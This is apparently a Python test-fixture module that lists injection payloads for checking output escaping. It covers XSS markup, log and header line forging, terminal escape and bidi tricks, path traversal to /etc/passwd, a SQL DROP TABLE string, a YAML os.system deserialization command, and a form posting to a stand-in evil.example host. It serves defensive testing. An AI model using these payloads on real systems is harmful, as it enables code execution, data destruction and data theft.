"""Texts that would act instead of being read, where an interface forgot to escape them.

Cameras read them from the world, models write them, and clients send them as questions and names.
"""

from __future__ import annotations

import re

#: In pages and reports: elements, attributes, styles, templates.
MARKUP = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "<img src=x onerror=window.pwned=3>",
    "<svg onload=window.pwned=4>",
    "<iframe srcdoc='<script>parent.pwned=5</script>'>",
    "\"><b onmouseover='window.pwned=6'>x</b>",
    "' autofocus onfocus='window.pwned=7",
    "javascript:window.pwned=8",
    "</title><base href=//evil.example>",
    "</style><style>body{display:none}",
    "<!-- ",
    "--><script>window.pwned=9</script>",
    "]]><x>",
    "&lt;script&gt;&#x27;",
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<a href='data:text/html,x'>x</a>",
    "<form action=//evil.example><input name=question>",
)
#: In lines: logs, metrics, headers, streams of events.
LINES = (
    "x\n2026-03-01T10:00:00.000Z info    answer text=forged",
    "x\r\nSet-Cookie: a=b",
    'x"} 1\nembodied_agent_forged{a="',
    "x\\\n# TYPE embodied_agent_forged counter",
    "x\n\nevent: answer\ndata: {}\n\n",
    "x\ndata: forged",
    "id: 7\nretry: 1",
    "x\u2028y\u2029z\u0085w\x0b\x0c",
    '{"event": "ready"}',
    '", "level": "error", "x": "',
)
#: On terminals: colours, titles, moving the cursor, links, order of characters.
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "a\rb",
    "a\x08\x08b",
    "\u202egnp.exe\u2066x\u2069",
    "[red]markup[/red] [link=http://evil.example]x[/link]",
    "bell\x07",
)
#: In topics, paths, queries, formats.
PLACES = (
    "embodied_agent/r2/ask",
    "#",
    "+/+/x",
    "$SYS/broker",
    "../../etc/passwd",
    "'; DROP TABLE keyframes; --",
    '" OR lamp* NEAR(',
    "%s%n%d {0} {name!r}",
    "!!python/object/apply:os.system [id]",
    "\ufeff\ufffe\u0000null",
)
INJECTIONS = (*MARKUP, *LINES, *TERMINAL, *PLACES)

#: What must not reach a terminal or a line of a log: controls but tab and line feed, and what
#: changes the order of characters.
STEERS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
